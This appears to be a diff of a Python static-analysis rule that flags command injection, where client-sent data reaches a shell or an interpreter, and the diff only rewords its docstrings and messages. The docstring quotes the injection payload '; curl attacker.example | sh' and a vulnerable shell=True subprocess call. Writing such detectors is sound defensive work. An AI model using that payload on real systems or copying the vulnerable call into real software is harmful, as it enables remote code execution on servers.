@@ -1,10 +1,10 @@
 """A command from a message.
 
 What:
-    Something that the client sent is a command, or a part of one that a shell reads.
+    The server runs a command that the client sends, or a shell command that contains its data.
 
 Why:
-    `; curl attacker.example | sh` in a field is a command of its own.
+    With `; curl attacker.example | sh` in a field, the client runs another command.
 
 Example:
     subprocess.run("ping " + data["host"], shell=True)
@@ -58,7 +58,7 @@ _READERS = re.compile(
     r"(?:^|[/\\])(?:(?:ba|z|da|k|a)?sh|cmd|powershell|pwsh|python[\d.]*|perl|ruby|node)(?:\.exe)?$"
 )
 _OPTION = re.compile(r"-[a-z]*[ce]|/[ck]|-Command", re.IGNORECASE)
-"""The option of a shell or of an interpreter that is followed by a program."""
+"""Option of a shell or of an interpreter that precedes a program."""
 _QUOTES = frozenset({"shlex.quote", "pipes.quote"})
 
 
@@ -66,7 +66,7 @@ def _check(endpoint: Endpoint) -> Iterator[Found]:
     spelling = Spelling(endpoint, _QUOTES)
     for event in reaching(endpoint, 0, ("cmd",), *_SHELLS):
         if _is_free(spelling, event, "cmd"):
-            yield sunk(endpoint, event, f"A shell reads what the client sends: {event.text}().")
+            yield sunk(endpoint, event, f"A shell interprets data of the client: {event.text}().")
     for event in reaching(endpoint, 0, ("args",), *_PROGRAMS):
         given = argument(event, 0, "args")
         shell = dict(event.words).get("shell")
@@ -75,13 +75,15 @@ def _check(endpoint: Endpoint) -> Iterator[Found]:
         # A list: its first item is the program, the others are arguments of it.
         if listed and isinstance(given, Sequence) and not any(map(from_client, given.items[:1])):
             if _is_read_as_a_program(given.items) and _is_free(spelling, event, "args"):
-                yield sunk(endpoint, event, f"A shell reads what the client sends: {event.text}().")
+                yield sunk(
+                    endpoint, event, f"A shell interprets data of the client: {event.text}()."
+                )
             continue
         if _is_free(spelling, event, "args"):
             yield sunk(endpoint, event, f"The client chooses the command: {event.text}().")
     for event in endpoint.calls("asyncio.create_subprocess_exec"):
         if event.module.inside and _is_read_as_a_program(event.values):
-            yield sunk(endpoint, event, f"A shell reads what the client sends: {event.text}().")
+            yield sunk(endpoint, event, f"A shell interprets data of the client: {event.text}().")
 
 
 def _is_read_as_a_program(items: Iterable[Value]) -> bool:
